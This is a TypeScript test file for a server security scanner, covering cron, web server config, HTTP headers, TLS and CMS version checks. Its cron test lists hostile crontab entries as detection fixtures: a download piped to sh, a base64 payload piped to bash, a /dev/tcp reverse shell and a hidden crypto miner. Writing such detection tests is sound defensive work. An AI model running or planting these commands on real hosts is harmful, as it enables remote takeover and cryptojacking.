import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import tls from 'node:tls';
import { LocalGateway } from '@portal/plugin-sdk/testing';
import type { TlsSummary } from '../shared/findings.ts';
import { magentoFrontName } from './admin.ts';
import { scanCrontab } from './cron.ts';
import { fingerprintFindings, fingerprintsOf } from './fingerprints.ts';
import { checkTls, tlsFindings } from './tls.ts';
import { headerFindings, parseSiteFile } from './web.ts';

describe('issue 25 checks without a server', () => {
  it('cron: malicious entries at their line; ordinary jobs, comments and variables are no finding', () => {
    const tab = [
      'MAILTO=ops@example.com',
      '# curl http://x | sh (a comment)',
      '*/5 * * * * www-data php /var/www/shop/bin/magento cron:run > /dev/null 2>&1',
      '0 3 * * * root curl -fsS https://hc-ping.com/abc > /dev/null',
      '* * * * * root wget -qO- http://198.51.100.7/s | sh',
      '@hourly root echo Y3VybCBldmlsCg== | base64 -d | bash',
      '*/2 * * * * root bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
      '@reboot root /dev/shm/.x/xmrig -o stratum+tcp://pool.example:3333',
    ].join('\n');
    expect(scanCrontab('/etc/cron.d/portal', tab).map((f) => [f.line, f.rule])).toEqual([
      [5, 'cron_download_exec'],
      [6, 'cron_base64_exec'],
      [7, 'cron_reverse_shell'],
      [8, 'cron_miner'],
      [8, 'cron_hidden_tmp'],
    ]);
  });

  it('reads the sites of rendered nginx and apache files (HTTPS where it has it), paths back on the server', () => {
    const unhost = (p: string) => p.replace(/^\/sb/, '');
    const nginx = 'server {\n    listen 127.0.0.1:8080;\n    listen 127.0.0.1:8443 ssl;\n    server_name *.preview.example preview.example;\n    root "/sb/var/www/previews";\n}\n';
    expect(parseSiteFile('nginx', nginx, unhost)).toEqual({ server: 'nginx', host: 'preview.example', names: ['*.preview.example', 'preview.example'], documentRoot: '/var/www/previews', http: { host: '127.0.0.1', port: 8080 }, https: { host: '127.0.0.1', port: 8443 } });
    const apache = '<VirtualHost 127.0.0.1:8081>\n    ServerName shop.example\n    DocumentRoot "/sb/var/www/shop/pub"\n</VirtualHost>\n';
    expect(parseSiteFile('apache', apache, unhost)).toMatchObject({ host: 'shop.example', documentRoot: '/var/www/shop/pub', http: { port: 8081 }, https: null });
  });

  it('headers: HSTS only over HTTPS, CSP frame-ancestors counts as X-Frame-Options, the fix in the site’s server syntax', () => {
    const site = { server: 'apache' as const, host: 'shop.example', documentRoot: '/var/www/shop', http: null, https: { host: '127.0.0.1', port: 1 } };
    const answer = { status: 200, body: Buffer.from(''), headers: { 'content-security-policy': "frame-ancestors 'self'", 'x-content-type-options': 'nosniff' } };
    const found = headerFindings(site, 'https://shop.example/', answer, true);
    expect(found.map((f) => f.rule)).toEqual(['header_hsts', 'header_referrer_policy']);
    expect(found[0]!.directive).toBe('Header always set Strict-Transport-Security "max-age=31536000; includeSubDomains"');
    expect(headerFindings(site, 'http://shop.example/', answer, false).map((f) => f.rule)).toEqual(['header_referrer_policy']);
  });
});

describe('issue 25 TLS, admin and version checks', () => {
  const site = { server: 'nginx' as const, host: 'shop.example' };
  const summary = (validTo: string, legacy: TlsSummary['legacy'] = { TLSv1: 'refused', 'TLSv1.1': 'refused' }): TlsSummary => ({
    site: 'shop.example',
    protocol: 'TLSv1.3',
    cipher: 'TLS_AES_256_GCM_SHA384',
    legacy,
    certificate: { subject: 'shop.example', issuer: "Let's Encrypt R11", validTo, names: ['shop.example'], matchesHost: true, selfSigned: false },
  });
  const now = new Date('2026-11-29T12:00:00Z');
  const rules = (s: TlsSummary) => tlsFindings(site, 'https://shop.example', s, false, now).map((f) => [f.rule, f.severity]);

  it('certificate expiry: expired critical, < 14 days high, < 30 days medium, later nothing; old protocols with the directive', () => {
    expect(rules(summary('2026-11-28T00:00:00.000Z'))).toEqual([['tls_cert_expired', 'critical']]);
    expect(rules(summary('2026-12-10T00:00:00.000Z'))).toEqual([['tls_cert_expiring', 'high']]);
    expect(rules(summary('2026-12-20T00:00:00.000Z'))).toEqual([['tls_cert_expiring', 'medium']]);
    expect(rules(summary('2027-03-01T00:00:00.000Z'))).toEqual([]);
    const old = tlsFindings({ ...site, server: 'apache' }, 'https://shop.example', summary('2027-03-01T00:00:00.000Z', { TLSv1: 'accepted', 'TLSv1.1': 'untested' }), false, now);
    expect(old).toEqual([expect.objectContaining({ rule: 'tls_old_protocol', severity: 'medium', evidence: 'accepted: TLSv1', directive: 'SSLProtocol -all +TLSv1.2 +TLSv1.3' })]);
  });

  it('a real TLS server that still speaks TLS 1.0 and 1.1 is caught; its certificate names another host', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'tls-check-'));
    const [key, cert] = [path.join(dir, 'k.pem'), path.join(dir, 'c.pem')];
    execFileSync('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-days', '20', '-subj', '/CN=other.example', '-addext', 'subjectAltName=DNS:other.example', '-keyout', key, '-out', cert], { stdio: 'ignore' });
    const server = tls.createServer({ key: fs.readFileSync(key), cert: fs.readFileSync(cert), minVersion: 'TLSv1', ciphers: 'DEFAULT@SECLEVEL=0' }, (s) => s.end());
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    try {
      const gw = new LocalGateway({ baseDir: dir, serverId: 1 });
      const port = (server.address() as { port: number }).port;
      const s = (await checkTls(gw, { host: 'shop.example', https: { host: '127.0.0.1', port } }))!;
      expect(s).toMatchObject({ protocol: 'TLSv1.3', legacy: { TLSv1: 'accepted', 'TLSv1.1': 'accepted' }, certificate: { subject: 'other.example', matchesHost: false, selfSigned: true } });
      expect(tlsFindings(site, 'https://shop.example', s, false, new Date()).map((f) => [f.rule, f.severity])).toEqual([
        ['tls_old_protocol', 'medium'],
        ['tls_cert_expiring', 'medium'],
        ['tls_hostname_mismatch', 'high'],
        ['tls_self_signed', 'high'],
      ]);
    } finally {
      server.close();
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  it('versions: a full version against the advisories, a short or unknown one only as visible', () => {
    const home = (html: string) => ({ status: 200, headers: {}, body: Buffer.from(html) });
    const prints = fingerprintsOf({
      home: home('<meta name="generator" content="WordPress 6.4.2" /><meta content="WooCommerce 8.2.1" name="generator">'),
      readme: home('<h1>WordPress</h1><br /> Version 6.4.2'),
      magento: home('Magento/2.4 (Community)'),
    });
    expect(prints.map((p) => `${p.product} ${p.version} ${p.path}`)).toEqual(['WordPress 6.4.2 /', 'WooCommerce 8.2.1 /', 'Magento 2.4 /magento_version']);
    const findings = fingerprintFindings(site, 'https://shop.example', prints);
    expect(findings.map((f) => [f.rule, f.severity, f.evidence])).toEqual([
      ['version_generator', 'low', 'WordPress 6.4.2'],
      ['version_generator', 'low', 'WooCommerce 8.2.1'],
      ['version_file', 'low', 'Magento 2.4'], // 2.4 < 2.4.7-p1, but which patch is unknown: no advisory claimed
    ]);
    expect(findings[2]!.directive).toBe('location = /magento_version { deny all; }');
    const shopware = fingerprintFindings(site, 'https://shop.example', [{ product: 'Shopware', version: '6.4.18.0', path: '/', source: 'generator' }]);
    expect(shopware.map((f) => [f.rule, f.severity])).toEqual([
      ['CVE-2023-2017', 'critical'],
      ['version_generator', 'low'],
    ]);
  });

  it("admin: Magento's front name from env.php", () => {
    expect(magentoFrontName("<?php return ['backend' => ['frontName' => 'admin'], 'db' => []];")).toBe('admin');
    expect(magentoFrontName("<?php return array('backend' => array('frontName' => 'admin_x7k2'));")).toBe('admin_x7k2');
    expect(magentoFrontName('<?php return [];')).toBeNull();
  });
});
